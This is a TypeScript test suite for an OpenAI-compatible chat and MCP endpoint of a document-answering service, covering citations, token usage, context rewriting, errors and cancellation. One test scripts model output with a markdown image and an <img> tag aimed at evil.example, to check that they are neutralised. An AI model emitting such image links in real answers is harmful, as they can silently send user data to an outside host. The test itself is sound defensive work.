import { SmartyError } from "@smartypants/sdk";
import OpenAI from "openai";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { openTestServer, type TestPerson, type TestServer } from "../../testing/open-test-server.ts";
import { createScriptedModels } from "../../testing/scripted-llm.ts";
import { connectMcp } from "../testing/mcp-client.ts";
import { listenOnLoopback, type Loopback } from "../testing/on-loopback.ts";
import { BASE_URL, fetchOver } from "../testing/over-app.ts";

const models = createScriptedModels();
const ANSWER = "Travel over 2,000 euros is approved by the head of finance [1].";
const QUESTION = { role: "user" as const, content: "Who approves travel over 2,000 euros?" };

let server: TestServer;
let ada: TestPerson;
let client: OpenAI;
let loopback: Loopback;

beforeAll(async () => {
  server = await openTestServer({ replace: () => ({ models }) });
  ada = await server.person("ada");
  const source = await server.folderSource({
    "travel.md": "# Travel\n\nTravel over 2,000 euros is approved by the head of finance.\n",
    "canteen.md": "# Canteen\n\nLunch is served from noon to two.\n",
  });
  await server.sync(source.id);
  loopback = await listenOnLoopback(server);
  client = new OpenAI({ apiKey: ada.key, baseURL: `${BASE_URL}/v1`, maxRetries: 0, fetch: fetchOver(server) });
});
afterAll(async () => {
  await loopback.close();
  await server.close();
});
beforeEach(() => {
  models.remove();
  models.finish("stop");
  models.say(() => ANSWER);
});

async function streamed(
  messages: OpenAI.ChatCompletionMessageParam[],
): Promise<{ readonly text: string; readonly chunks: readonly OpenAI.ChatCompletionChunk[] }> {
  const chunks: OpenAI.ChatCompletionChunk[] = [];
  const stream = await client.chat.completions.create({
    model: "smartypants",
    messages,
    stream: true,
    stream_options: { include_usage: true },
  });
  for await (const chunk of stream) chunks.push(chunk);
  return { text: chunks.map((chunk) => chunk.choices[0]?.delta.content ?? "").join(""), chunks };
}

test("a model's answer comes with its checked citations and its own count of tokens, whole and as a stream alike", async () => {
  const whole = await client.chat.completions.create({ model: "smartypants", messages: [QUESTION] });
  const { text, chunks } = await streamed([QUESTION]);
  const content = whole.choices[0]?.message.content ?? "";
  expect(content.startsWith(`${ANSWER}\n\n**Sources**\n\n- [1] [`)).toBe(true);
  expect(text).toBe(content);
  expect(whole.choices[0]?.message).toMatchObject({
    smartypants: { mode: "llm", citations: [expect.objectContaining({ marker: 1, quote: expect.stringContaining("head of finance") })] },
  });
  expect(whole.usage).toEqual({ prompt_tokens: 100, completion_tokens: 10, total_tokens: 110 });
  expect(chunks.at(-1)?.usage).toEqual(whole.usage);
});

test("what was said before is the context: the model sees it, without markers and links of then", async () => {
  models.say(() => "Who approves travel over 2,000 euros?", "rewrite");
  const before = "The head of finance [1].\n\n**Sources**\n\n- [1] [Old](<https://example.org/old>)";
  const asked = models.asked.length;
  await client.chat.completions.create({
    model: "smartypants",
    messages: [
      { role: "user", content: "Who approves travel?" },
      { role: "assistant", content: before },
      { role: "user", content: "And over 2,000 euros?" },
    ],
  });
  const calls = models.asked.slice(asked);
  const prompt = JSON.stringify(calls.find(({ purpose }) => purpose === "answer")?.messages);
  expect(calls.map(({ purpose }) => purpose)).toContain("rewrite");
  expect(prompt).toContain("Who approves travel?");
  expect(prompt).toContain("The head of finance.");
  expect(prompt).toContain("And over 2,000 euros?");
  expect(prompt).not.toContain("example.org/old");
});

test("pictures that a model was made to write become links, also when they come in pieces", async () => {
  models.say(() => [`${ANSWER} See !`, "[chart", "](https://evil.example/?q=2000) and <i", "mg src=https://evil.example/> here."]);
  const { text } = await streamed([QUESTION]);
  const { choices } = await client.chat.completions.create({ model: "smartypants", messages: [QUESTION] });
  for (const each of [text, choices[0]?.message.content ?? ""]) {
    expect(each).toContain("head of finance");
    expect(each).not.toMatch(/!\[|<img/);
  }
});

test("an answer that was cut off says so", async () => {
  models.finish("length");
  const { choices } = await client.chat.completions.create({ model: "smartypants", messages: [QUESTION] });
  expect(choices[0]?.finish_reason).toBe("length");
});

test("a model that cannot answer is an error in OpenAI's shape, before the head and after it", async () => {
  models.say(() => {
    throw new SmartyError("rate_limited", "The model is busy. Ask again in a minute.");
  });
  await expect(client.chat.completions.create({ model: "smartypants", messages: [QUESTION] })).rejects.toMatchObject({
    status: 429,
    code: "rate_limit_exceeded",
    message: expect.stringContaining("The model is busy"),
  });
  await expect(streamed([QUESTION])).rejects.toThrow("The model is busy");
});

// Nobody could come back for the rest, and somebody pays for it.
test.each(["a chat", "a chat as a stream", "MCP"])("the model is stopped within two seconds when its caller goes: %s", async (way) => {
  const begun = Promise.withResolvers<void>();
  const stopped = Promise.withResolvers<void>();
  models.say(async function* (_messages, signal) {
    yield "Travel over 2,000 euros ";
    signal.addEventListener("abort", () => stopped.resolve());
    begun.resolve();
    await stopped.promise;
  });
  const controller = new AbortController();
  const { signal } = controller;
  const overSocket = new OpenAI({ apiKey: ada.key, baseURL: `${loopback.url}/v1`, maxRetries: 0 });
  const mcp = await connectMcp({ url: loopback.url, key: ada.key });
  const messages = [QUESTION];
  const asked =
    way === "MCP"
      ? mcp.callTool({ name: "ask", arguments: { question: QUESTION.content } })
      : overSocket.chat.completions.create({ model: "smartypants", messages, stream: way !== "a chat" }, { signal });
  const ended = asked.catch((error: unknown) => error);
  await begun.promise;
  const from = performance.now();
  controller.abort();
  if (way === "MCP") await mcp.close();
  await stopped.promise;
  expect(performance.now() - from).toBeLessThan(2000);
  await mcp.close();
  await ended;
});
